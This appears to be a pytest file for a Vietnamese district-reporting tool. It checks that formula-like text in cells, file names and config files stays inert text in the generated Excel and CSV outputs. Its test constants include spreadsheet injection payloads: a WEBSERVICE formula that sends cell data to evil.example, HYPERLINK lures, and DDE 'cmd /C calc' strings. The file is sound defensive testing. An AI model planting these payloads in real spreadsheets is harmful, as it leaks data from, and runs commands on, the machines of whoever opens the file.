"""Text typed in a cell or a file name never becomes a live formula in what reportgen writes.

kiem-tra-<năm>.xlsx goes back to the districts by mail: a cell reading =HYPERLINK(…) or
=WEBSERVICE(…) there would run in Excel. nguon-so-lieu.csv is opened in Excel too.
"""

import csv
import io
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

from openpyxl import load_workbook

from reportgen.declared.units import Unit
from reportgen.fact_table import Fact, Figure
from reportgen.report.provenance import sources_csv
from tests.conftest import run

YEAR = 2018
TIEN_HAI = "342-tien-hai-2018.xlsx"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

LINK = '=HYPERLINK("http://evil.example/x","Bấm vào đây")'
FETCH = '=WEBSERVICE("http://evil.example/?q="&A1)'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
BAD_FILE = '=HYPERLINK("evil")-hong.xlsx'
SHEET = "=Hoạt động"


def _type_as_text(path: Path, sheet: str, changes: dict) -> None:
    """Type text into cells the way a clerk's text-formatted cell holds it: as text.

    openpyxl itself would store "=…" as a formula; the clerk's file holds the text.
    """
    wb = load_workbook(path)
    ws = wb[sheet]
    for ref, value in changes.items():
        ws[ref] = value
        ws[ref].data_type = "s"
    wb.save(path)


def _xlsx_cells(path: Path) -> tuple[int, list[str]]:
    """Return (number of <f> formula elements, every text) across all sheets of an .xlsx."""
    formulas, texts = 0, []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            root = ElementTree.fromstring(archive.read(name))
            formulas += len(root.findall(f".//{MAIN}f"))
            if name.startswith("xl/worksheets/"):
                for cell in root.iter(f"{MAIN}c"):
                    if cell.get("t") == "inlineStr":
                        texts.append("".join(t.text or "" for t in cell.iter(f"{MAIN}t")))
                    elif cell.get("t") == "s":  # a shared string: not what openpyxl writes
                        texts.append(f"shared:{cell.findtext(f'{MAIN}v')}")
    return formulas, texts


def test_formula_text_in_cells_and_file_names_stays_text_in_the_check_report(
    data_dir: Path, tmp_path: Path
):
    folder = data_dir / str(YEAR)
    book = folder / TIEN_HAI
    _type_as_text(book, "Thông tin", {"B5": LINK, "B6": PLUS})
    _type_as_text(book, "Chỉ tiêu", {"D6": FETCH})
    _type_as_text(book, "Hoạt động", {"A2": AT, "B2": FETCH, "F2": MINUS})
    wb = load_workbook(book)
    wb["Hoạt động"].title = SHEET  # found all the same: punctuation is ignored in sheet names
    wb.save(book)
    (folder / BAD_FILE).write_bytes(b"not a workbook")
    out = tmp_path / "kiem-tra"

    result = run("check", "--year", YEAR, "--data-dir", data_dir, "--out-dir", out)

    assert result.exit_code == 1
    formulas, texts = _xlsx_cells(out / "kiem-tra-2018.xlsx")
    assert formulas == 0
    # Each payload is in the report, as the text typed: a problem's value, the preparer and
    # date of the completeness table, the file name in both tables.
    for payload in (LINK, PLUS, FETCH, AT, MINUS, BAD_FILE, SHEET):
        assert payload in texts, payload
    # And read back by a spreadsheet program as text, not as a formula.
    problems = list(load_workbook(out / "kiem-tra-2018.xlsx")["Vấn đề"].iter_rows(values_only=True))
    assert problems[1][2] == BAD_FILE  # the unreadable file, first: no unit
    located = [(*r[3:6], r[8]) for r in problems]  # sheet, cell, value, the rule's code
    assert ("Chỉ tiêu", "D6", FETCH, "not_a_number") in located
    assert (SHEET, "A2", AT, "unknown_choice") in located


def test_formula_text_in_the_declarative_files_stays_text_in_the_blank_workbooks(
    data_dir: Path, tmp_path: Path
):
    units = data_dir / "units.toml"
    text = units.read_text(encoding="utf-8")
    before = 'kind = "huyện"\nname = "Tiền Hải"'
    assert before in text
    units.write_text(text.replace(before, 'kind = "=1+1"\nname = "Tiền Hải"'), "utf-8")
    communes = data_dir / "communes/thai-binh-2017-03.csv"
    lines = communes.read_text(encoding="utf-8").splitlines()
    tien_hai = next(i for i, line in enumerate(lines) if line.startswith("342,"))
    fields = lines[tien_hai].split(",")
    fields[3] = FETCH.replace(",", ";")  # ten_xa, one CSV field
    lines[tien_hai] = ",".join(fields)
    communes.write_text("\n".join(lines) + "\n", encoding="utf-8")
    catalog = data_dir / "catalog.toml"
    text = catalog.read_text(encoding="utf-8")
    assert 'header = "Nội dung"' in text
    text = text.replace('header = "Nội dung"', 'header = "@Nội dung"')
    # A quote in a choice would end the dropdown's list and make the rest a formula.
    assert 'label = "Lớp tập huấn"' in text
    text = text.replace(
        'label = "Lớp tập huấn"',
        'label = "Lớp tập huấn\\",HYPERLINK(\\"http://evil.example\\"),\\""',
    )
    catalog.write_text(text, "utf-8")
    out = tmp_path / "mau"
    for sent in (data_dir / str(YEAR)).glob("*.xlsx"):
        sent.unlink()  # `template` makes blanks only for units that have sent nothing

    result = run("template", "--year", YEAR, "--data-dir", data_dir, "--out-dir", out)

    assert result.exit_code == 0, result.output
    [blank] = out.glob("342-*.xlsx")
    formulas, texts = _xlsx_cells(blank)
    assert formulas == 0
    assert "=1+1 Tiền Hải" in texts  # the unit's name ("kind name"), on the info sheet
    assert FETCH.replace(",", ";") in texts  # the commune list of the dropdown
    assert "@Nội dung" in texts  # a column header
    with zipfile.ZipFile(blank) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    lists = [
        f.text
        for sheet in sheets
        for v in ElementTree.fromstring(sheet).iter(f"{MAIN}dataValidation")
        if v.get("type") == "list"
        for f in v.iter(f"{MAIN}formula1")
        if f.text.startswith('"')
    ]
    assert lists and all(f.count('"') == 2 for f in lists)  # one literal list each, no formula
    assert lists[0].startswith('"Lớp tập huấn,HYPERLINK(http://evil.example),,Buổi nói')


def test_formula_like_fields_of_the_sources_csv_start_with_a_quote(data_dir: Path, tmp_path):
    folder = data_dir / str(YEAR)
    renamed = '=HYPERLINK("evil")-tien-hai.xlsx'
    shutil.move(folder / TIEN_HAI, folder / renamed)
    wb = load_workbook(folder / renamed)
    wb["Chỉ tiêu"].title = "@Chỉ tiêu"
    wb.save(folder / renamed)
    out = tmp_path / "out"

    result = run("build", "--year", YEAR, "--data-dir", data_dir, "--out-dir", out,
                 "--format", "html")  # fmt: skip

    assert result.exit_code == 0, result.output
    raw = (out / "nguon-so-lieu.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    tien_hai = [r for r in rows if r["Đơn vị"] == "Huyện Tiền Hải"]
    assert tien_hai
    assert {r["Tệp"] for r in tien_hai} == {"'" + renamed}
    assert "'@Chỉ tiêu" in {r["Trang"] for r in tien_hai}
    # Numbers stay numbers: no quote before a figure or a unit's part of it.
    assert all(r["Giá trị"].isdigit() and r["Số của đơn vị"].isdigit() for r in tien_hai)
    assert not any(r["Tệp"].startswith("'") for r in rows if r["Đơn vị"] != "Huyện Tiền Hải")


def test_every_formula_start_is_quoted_in_the_csv_but_negative_numbers_are_not():
    unit = Unit("999", "huyện", "Thử", "Thử", (), 2017, 2024)
    facts = (
        Fact(2018, "nam", "999", "", "", "x", -5, "+a.xlsx", "@trang", "\tA1", 1),
        Fact(2018, "nam", "999", "", "", "x", 7, "-b.xlsx", "=trang", "\rA2", 2),
    )
    figure = Figure("x", "=1+1 số liệu", facts, {"999": unit})

    raw = sources_csv([figure]).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[1] == ["1", "'=1+1 số liệu", "2", "Huyện Thử", "-5", "'+a.xlsx", "'@trang", "'\tA1"]
    assert rows[2] == ["1", "'=1+1 số liệu", "2", "Huyện Thử", "7", "'-b.xlsx", "'=trang", "'\rA2"]
